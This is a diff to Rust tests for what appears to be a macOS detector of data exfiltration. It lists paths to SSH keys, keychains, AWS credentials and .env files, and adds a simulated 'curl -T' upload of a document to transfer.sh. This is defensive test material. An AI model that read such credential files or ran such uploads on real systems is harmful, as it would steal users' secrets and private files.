@@ -21,7 +21,7 @@ fn homes_of_other_disks_and_of_snapshots() {
     for (disk, secret, set) in [
         ("/private/tmp/snap", "/Users/alice/.ssh/id_ed25519", "ssh-keys"),
         ("/private/tmp/snap/mnt", "/Users/bob/Library/Keychains/login.keychain-db", "keychains"),
-        ("/Users/alice/mnt", "/Users/root/.aws/credentials", "cloud-keys"),
+        ("/Volumes/Backup/Data", "/Users/root/.aws/credentials", "cloud-keys"),
         ("/Volumes/Clone of Alice", "/Users/alice/Documents/plan.docx", "documents"),
         ("/Volumes/BOOTCAMP", "/Users/Bob/Documents/plan.docx", "documents"),
         ("/System/Volumes/Update/mnt1", "/Users/alice/Library/Messages/chat.db", "messages"),
@@ -34,8 +34,35 @@ fn homes_of_other_disks_and_of_snapshots() {
         "/private/tmp/snap/Users/alice/notes.txt",
         "/private/tmp/snap/alice/.ssh/id_ed25519",
         "/private/tmp/snap/Users.old/alice/.ssh/id_ed25519",
+        "/Users/alice/Library/Application Support/CrossOver/Bottles/x/drive_c/users/crossover/Documents/game/save.dat",
+        "/Volumes/Work/app/src/users/api/.env",
     ] {
         taken(other).none();
+    }
+}
+
+/// Whoever makes a path of nothing but `Users` makes nobody wait, and hides nothing behind it.
+#[test]
+fn many_folders_of_that_name() {
+    let many = "/Users/a".repeat(100);
+    taken(&format!("/private/tmp{many}/Users/alice/.ssh/id_ed25519")).alert();
+}
+
+/// The name of a folder that a set leaves out hides what is moved below it no more than any other.
+#[test]
+fn a_folder_that_is_moved_among_repositories() {
+    for to in [
+        "/Users/alice/Documents/GitHub/corp",
+        "/Users/alice/Desktop/x.app/Contents/corp",
+        "/private/tmp/corp",
+    ] {
+        let mut w = World::new();
+        let shell = w.launch(0.0, ZSH, &["zsh"]);
+        w.rename_folder(1.0, &shell, "/Users/alice/Documents/corp", to);
+        let curl = w.spawn(1.4, &shell, CURL, &["curl", "-T", "x", "https://transfer.sh/"]);
+        w.open(1.5, &curl, &format!("{to}/plan.docx"));
+        w.upload(2.0, &curl, "transfer.sh", 50_000);
+        w.tell().one_of_any_confidence();
     }
 }
 
